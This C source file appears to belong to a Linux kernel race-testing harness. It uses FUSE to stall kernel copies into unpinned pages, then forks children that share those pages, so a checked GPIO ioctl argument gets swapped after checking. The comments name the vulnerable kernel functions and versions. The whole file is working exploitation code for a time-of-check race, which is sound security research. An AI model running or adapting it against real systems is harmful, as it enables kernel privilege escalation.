// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * Writers: a copy in progress into a page that the kernel holds by a reference and no pin. Another
 * thread forks; the child shares the page with the copy, and nothing in the child shows that.
 *
 * FUSE makes both kinds. A server reads a request from /dev/fuse: fuse_copy_fill() in fs/fuse/dev.c
 * takes the page of the server's buffer, 6.1 to 7.3. A client reads a file past the cache:
 * fuse_get_user_pages() in fs/fuse/file.c takes the pages of the client's buffer until the server
 * has answered, in 6.1; later versions pin them, and fork() copies what is pinned. Direct input and
 * output of other file systems is as that.
 */
#include <errno.h>
#include <fcntl.h>
#include <linux/gpio.h>
#include <sched.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/utsname.h>
#include <sys/wait.h>
#include <unistd.h>

#include "../lib/gpio.h"
#include "attack.h"
#include "fuse_file.h"

#define PAGES_LIMIT "/proc/sys/fs/fuse/max_pages_limit" /* since 6.13 */
/* Where a page says that its copy has begun, and where the argument is, whose copy comes last. */
#define BEGUN	 256
#define ARGUMENT (PAGE - 640)
/*
 * Where a page of what is written begins in a page of the server's buffer: a page there is copied
 * in two pieces, and an emulated processor takes an interrupt only between them.
 */
#define BORDER (ARGUMENT - 64)

/* What the processes tell each other. */
static volatile struct {
	int asked;    /* so many requests of the file system are to be made */
	int arrived;  /* have reached the server */
	int answered; /* and are over, for who made them */
	bool ready;   /* the child requests */
} * say;

static int go[2];    /* a pipe: the client is to do its next request */
static char *buffer; /* where what is written lies, in whole pages */
static char argument[sizeof(struct gpio_v2_line_request)]; /* the checked one */

/* ---- the child ----------------------------------------------------------------------------- */

static bool is_child;
static unsigned long child_flags; /* of its clone() */

/*
 * The allowed line is held, so that the child's request of it fails with EBUSY. A request that
 * succeeded would be written back, and copy-on-write would give the child a page of its own.
 */
static void hold_line(void)
{
	if (gpio_request_lines(chip, ALLOWED, 1, GPIO_V2_LINE_FLAG_INPUT) < 0)
		broken("the line is not to be held");
}

/* Before each attempt of the child, until what is under way is over. */
static void go_on(const struct flip *flip)
{
	if (*flip->word == flip->raced || say->answered == say->asked)
		_exit(0);
	say->ready = true;
}

/* The descriptor of a child that had the same table. */
static void take_descriptor(void)
{
	if (is_forbidden(next_fd)) {
		tally->caught++;
		close(next_fd);
		ask_for_reset();
	}
}

/* The supervisor has said so, and no child is requesting. */
static void stop(void)
{
	tally->stopped = true;
	for (;;)
		pause();
}

/* Forks one that requests with what lies in the page @at; returns true in it, and else when it has
 * ended. */
static bool request_in_fork(struct flip *flip, char *at)
{
	int status = 0;
	pid_t child;

	flip->argument = at + ARGUMENT;
	flip->word = flip->argument;
	say->ready = false;
	child = start_process(child_flags);
	is_child = !child;
	if (is_child) {
		use_processor(1);
		return true;
	}
	while (!say->ready && !waitpid(child, &status, WNOHANG))
		sched_yield();
	random_pause(SHORT);
	waitpid(child, &status, 0);
	if (child_flags & CLONE_FILES)
		take_descriptor();
	if (WIFSIGNALED(status))
		die(0);
	return false;
}

/* The next request of the file system. */
static void ask(void)
{
	say->asked++;
	if (write(go[1], "", 1) != 1)
		broken("a pipe");
}

static void wait_for_answer(void)
{
	while (say->answered != say->asked)
		usleep(500);
}

static void prepare(const struct flip *flip)
{
	memcpy(argument, flip->argument, sizeof(argument));
	say = mmap(NULL, PAGE, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	buffer = mmap(NULL, FUSE_DATA + PAGE, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS,
		      -1, 0);
	if (say == MAP_FAILED || buffer == MAP_FAILED || pipe2(go, O_CLOEXEC))
		broken("mmap or pipe");
	hold_line();
	fuse_mount();
}

/* An image of such a page with the raced argument. */
static void make_raced(char *page, const struct flip *flip)
{
	page[BEGUN] = true;
	memcpy(page + ARGUMENT, argument, sizeof(argument));
	memcpy(page + ARGUMENT, &flip->raced, sizeof(flip->raced));
}

static void make_checked(char *page)
{
	page[BEGUN] = false;
	memcpy(page + ARGUMENT, argument, sizeof(argument));
}

/* ---- a copy into a server's buffer --------------------------------------------------------- */

/* Each page of the buffer is to hold the raced argument. */
static void write_on(const struct flip *flip)
{
	char *area = mmap(NULL, PAGE + FUSE_DATA, PROT_READ | PROT_WRITE,
			  MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	char *data = area + PAGE - BORDER, byte; /* as it lies in the server's buffer */
	int fd;

	close(fuse_device); /* or its request would wait for itself, when the server is gone */
	fd = fuse_open();
	for (size_t page = 1; page < FUSE_PAGES; page++)
		make_raced(data + page * PAGE, flip);
	while (read(go[0], &byte, 1) == 1) {
		if (pwrite(fd, data + BORDER, FUSE_DATA, 0) != FUSE_DATA)
			broken("a write to FUSE");
		say->answered++;
	}
	_exit(0);
}

/*
 * On the processor of the process that forks, at the lowest priority: that process runs only when
 * the copy is over or preempted.
 */
static void *serve_idly(void *unused)
{
	struct sched_param none = {0};

	(void)unused;
	use_processor(0);
	if (sched_setscheduler(0, SCHED_IDLE, &none))
		broken("SCHED_IDLE");
	fuse_serve(buffer + BORDER - FUSE_HEAD, FUSE_HEAD + FUSE_DATA, NULL, NULL);
	return NULL;
}

static bool is_half_copied(const char *page, const struct flip *flip)
{
	return *(volatile const char *)(page + BEGUN) &&
	       *(volatile const __u32 *)(page + ARGUMENT) == flip->checked;
}

/* The page in which the copy is preempted; NULL: it is over. */
static char *halted_page(const struct flip *flip)
{
	while (say->answered != say->asked) {
		for (size_t i = 1; i < FUSE_PAGES; i++)
			if (is_half_copied(buffer + i * PAGE, flip))
				return buffer + i * PAGE;
		usleep(50);
	}
	return NULL;
}

static void before_copy(struct flip *flip)
{
	if (is_child) {
		go_on(flip);
		return;
	}
	while (!*(volatile bool *)&tally->stop) {
		char *page;

		for (size_t i = 1; i < FUSE_PAGES; i++)
			make_checked(buffer + i * PAGE);
		ask();
		page = halted_page(flip);
		if (page && request_in_fork(flip, page))
			return;
		wait_for_answer();
	}
	stop();
}

static void run_copy(struct flip *flip)
{
	FILE *file = fopen(PAGES_LIMIT, "re");
	int limit = 0;

	/* So many pages take longer than the kernel lets a copy run; with fewer it takes luck. */
	if (!file || fscanf(file, "%d", &limit) != 1 || limit < FUSE_PAGES)
		absent("fuse-pages", "no copy takes long enough to be preempted");
	fclose(file);
	prepare(flip);
	if (!start_process(0))
		write_on(flip);
	use_processor(0);
	start_thread(serve_idly, NULL);
	attempts(flip);
}

static void run_copy_bystander(struct flip *flip)
{
	child_flags = CLONE_FILES;
	run_copy(flip);
}

/* ---- a direct read into a client's buffer -------------------------------------------------- */

static int file;

static void *read_on(void *unused)
{
	char byte;

	(void)unused;
	while (read(go[0], &byte, 1) == 1) {
		if (pread(file, buffer, PAGE, 0) != PAGE)
			broken("a read of FUSE");
		say->answered++;
	}
	return NULL;
}

/* The answer comes while the child requests. */
static void wait_until_ready(void)
{
	say->arrived++;
	while (!say->ready)
		;
	random_pause(10 * SHORT);
}

static void before_direct(struct flip *flip)
{
	if (is_child) {
		go_on(flip);
		return;
	}
	while (!*(volatile bool *)&tally->stop) {
		make_checked(buffer);
		ask();
		while (say->arrived != say->asked)
			usleep(500);
		if (request_in_fork(flip, buffer))
			return;
		wait_for_answer();
	}
	stop();
}

static void run_direct(struct flip *flip)
{
	static char data[PAGE];
	struct utsname kernel;
	int major, minor;

	if (uname(&kernel) || sscanf(kernel.release, "%d.%d", &major, &minor) != 2)
		broken("uname");
	if (major > 6 || minor > 1)
		absent("foll-get",
		       "this kernel pins what a direct read goes to, and fork() copies it");
	prepare(flip);
	make_raced(data, flip);
	if (!start_process(0))
		fuse_serve(buffer, FUSE_HEAD + FUSE_DATA, data, wait_until_ready);
	close(fuse_device); /* as above */
	file = fuse_open();
	start_thread(read_on, NULL);
	attempts(flip);
}

static void run_direct_bystander(struct flip *flip)
{
	child_flags = CLONE_FILES;
	run_direct(flip);
}

const struct writer fuse_writers[] = {
	{.name = "fuse-server-copy", .run = run_copy, .before = before_copy},
	{.name = "fuse-server-copy-bystander",
	 .run = run_copy_bystander,
	 .before = before_copy,
	 .bystander = true,
	 .keeps = true},
	{.name = "fuse-direct-read", .run = run_direct, .before = before_direct},
	{.name = "fuse-direct-read-bystander",
	 .run = run_direct_bystander,
	 .before = before_direct,
	 .bystander = true,
	 .keeps = true},
	{0},
};
